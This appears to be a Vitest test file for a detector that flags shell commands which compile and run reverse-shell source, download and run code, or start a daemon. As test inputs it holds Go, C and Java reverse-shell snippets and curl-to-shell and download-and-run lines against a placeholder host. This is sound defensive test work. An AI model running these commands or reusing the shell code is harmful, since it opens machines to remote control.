// Sources that a container compiles and runs.
import { describe, expect, it } from 'vitest';
import { commandsOfText } from '../../shared/commands/command.ts';
import { shellListeners } from '../../shared/commands/listeners.ts';
import { selfUpdates } from '../../shared/commands/self-update.ts';
import { holdsSource, sourcesRun } from '../../shared/commands/source-code.ts';

const kinds = (text: string) => {
  const commands = commandsOfText(text);
  return [...shellListeners(commands), ...selfUpdates(commands)].map(({ what }) => what);
};
const goShell =
  'package main\nfunc main(){c,_:=net.Dial("tcp","h:1");e:=exec.Command("/bin/sh");e.Stdin=c;e.Run()}';
const cShell = '#include <sys/socket.h>\nint main(){connect(s,&a,1);dup2(s,0);execl("/bin/sh","sh",0);}';

describe('sourcesRun', () => {
  it.each([
    ['go', ['run', '-race', 'main.go', 'more.go'], [2, 3]],
    ['go', ['build', 'main.go'], []],
    ['java', ['-Xmx1g', 'Main.java', 'x.java'], [1]],
    ['java', ['-jar', 'app.jar'], []],
    ['java', ['com.acme.Main', 'x.java'], []],
    ['tcc', ['-run', 'x.c'], [1]],
    ['gcc', ['-c', 'x.c'], []],
  ])('%s %j: %j', (program, words, places) => {
    expect(sourcesRun({ program, arguments: words })).toEqual(places);
  });

  it('knows code that was put behind the words', () => {
    expect(holdsSource({ program: 'go', arguments: ['run', 'm.go', '-c', 'package main'] })).toBe(true);
    expect(holdsSource({ program: 'app', arguments: ['-c', 'x'] })).toBe(false);
  });
});

describe('a source that is written and run', () => {
  it.each([
    [`cat > /tmp/m.go <<'E'\n${goShell}\nE\ngo run /tmp/m.go`, 'reverse'],
    [`cat > m.go <<'E'\n${goShell}\nE\ngo build -o /tmp/m m.go && /tmp/m`, 'reverse'],
    [`cat > x.c <<'E'\n${cShell}\nE\ngcc x.c -o x; ./x`, 'reverse'],
    [
      `cat > X.java <<'E'\nclass X{Socket s=new Socket("h",1);Process p=new ProcessBuilder("/bin/sh").start();}\nE\njava X.java`,
      'reverse',
    ],
    ['curl -o m.go http://h/m.go; go run m.go', 'download-run'],
    ['curl -o M.java http://h/m; java M.java', 'download-run'],
    ['curl -o Makefile http://h/m; make', 'download-run'],
    ['make -f <(curl -s http://h/Makefile)', 'download-run'],
    ['curl -o a.so http://h/a.so; LD_PRELOAD=./a.so /app/run', 'download-run'],
    ['awk \'BEGIN{system("curl -s http://h/a | sh")}\'', 'download-run'],
    ['ansible-pull -U https://h/x.git', 'download-run'],
    ['start-stop-daemon --start --exec /usr/sbin/sshd -- -D', 'daemon'],
  ])('%s', (text, what) => {
    expect(kinds(text)).toContain(what);
  });

  it.each([
    'go run ./cmd/server',
    `cat > m.go <<'E'\npackage main\nfunc main(){net.Dial("tcp","db:5432")}\nE\ngo run m.go`,
    `cat > x.c <<'E'\nint main(){return 0;}\nE\ngcc x.c -o x; ./x`,
    'java -Dsocket.timeout=1 -Dshell=/bin/sh -jar app.jar',
    'make test',
    'curl -o data.json http://h/x; make test',
    'LD_PRELOAD=/usr/lib/libjemalloc.so.2 /app/run',
    "awk '{print $1}' /etc/hosts",
    'start-stop-daemon --stop --exec /usr/sbin/sshd',
  ])('%s: none', (text) => {
    expect(kinds(text)).toEqual([]);
  });
});
